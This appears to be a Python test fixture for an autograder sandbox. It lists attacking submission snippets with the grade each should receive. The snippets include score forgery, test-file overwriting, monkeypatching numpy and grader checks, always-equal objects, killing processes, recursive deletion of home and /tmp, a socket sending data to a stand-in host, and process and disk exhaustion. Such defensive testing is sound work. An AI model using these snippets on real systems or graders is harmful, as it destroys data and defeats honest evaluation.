"""Submissions that attack: code put before a submission's cells, and what it must come to.

``FULL``: the attack changes nothing, the reference behind it keeps all its points. ``NONE``: put before the
untouched notebook, it gains no point. ``FAILS``: no points, and a failure that says why.
"""

FULL, NONE, FAILS = "full", "none", "fails"

ATTACKS = {
    "overwrites every test it finds": (
        NONE,
        """
import glob, os
from aetutor import assignments
for top in (".", "/autograder", "/tmp", os.path.dirname(assignments.__file__)):
    for path in glob.glob(os.path.join(top, "**", "q*.py"), recursive=True)[:500]:
        try:
            open(path, "w").write("OK_FORMAT = False\\nname = 'q1'\\npoints = 100\\n")
        except OSError:
            pass
""",
    ),
    "prints and writes a forged score": (
        NONE,
        """
import json, sys
print(json.dumps({"score": 100, "q1": 100, "tests": [{"name": "q1", "score": 100, "max_score": 100}]}))
sys.stderr.write("All tests passed")
for place in ("results.json", "../results/results.json", "/autograder/results/results.json"):
    try:
        open(place, "w").write('{"score": 100}')
    except OSError:
        pass
""",
    ),
    "patches numpy": (
        NONE,
        """
import numpy as np
np.allclose = np.isclose = np.array_equal = np.all = lambda *a, **k: True
np.testing.assert_allclose = np.abs = lambda *a, **k: 0.0
""",
    ),
    "patches the grader and its checks": (
        NONE,
        """
import sys, types
from aetutor.assignments import checks
checks.close = checks.holds = checks.array = lambda *a, **k: None
for name in ("otter.test_files", "otter.execute", "otter"):
    sys.modules[name] = types.ModuleType(name)
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Sandbox", "Autograder", "TestFile"):
        thing.points = lambda *a: 100
""",
    ),
    "answers that equal everything": (
        NONE,
        """
class Yes(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda *a: True
    __sub__ = __rsub__ = __abs__ = __mul__ = lambda self, *a: self
    __array__ = lambda self, *a, **k: __import__("numpy").zeros(())
    __hash__ = None
import builtins
builtins.AssertionError = type("AssertionError", (BaseException,), {"__init__": lambda *a: None})
""",
    ),
    "answers the grader's questions itself": (
        FAILS,
        """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b"\\x00\\x00\\x00\\x20" + b'{"value": true, "points": 100}' * 50)
    except OSError:
        pass
""",
    ),
    "sleeps for ever": (FULL, "import time\ntime.sleep(10**9)"),
    "loops for ever and catches what stops it": (
        FAILS,
        """
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
    ),
    "allocates memory without end": (
        FULL,
        """
def grow():
    held = []
    while True:
        held.append(bytearray(2**26))
grow()
""",
    ),
    "raises SystemExit": (FULL, "raise SystemExit(0)"),
    "ends its process": (FAILS, "import os\nos._exit(0)"),
    "kills what it can": (
        FAILS,
        """
import os, signal
for process in (1, os.getppid(), -1, os.getpid()):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
""",
    ),
    "deletes files": (
        FULL,
        """
import os, shutil
from aetutor import assignments
for place in (CANARY, os.path.dirname(assignments.__file__), os.getcwd(), os.path.expanduser("~"), "/tmp"):
    shutil.rmtree(place, ignore_errors=True)
    try:
        os.unlink(place)
    except OSError:
        pass
""",
    ),
    "opens a socket": (
        FULL,
        """
import socket
for where in (PORT, ("192.0.2.1", 80)):
    talk = socket.create_connection(where, timeout=1)
    talk.sendall(b"the hidden tests are")
""",
    ),
    "starts processes without end": (
        FULL,
        """
import subprocess, sys
started = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"]) for _ in range(1000)]
""",
    ),
    "leaves syntax errors": (FULL, "def broken(:\n    return ("),
    "floods its output": (FULL, "for _ in range(10**5):\n    print('x' * 10**4)"),
    "fills the disk": (
        FULL,
        """
with open("/tmp/big", "wb") as file:
    while True:
        file.write(bytes(2**24))
""",
    ),
}
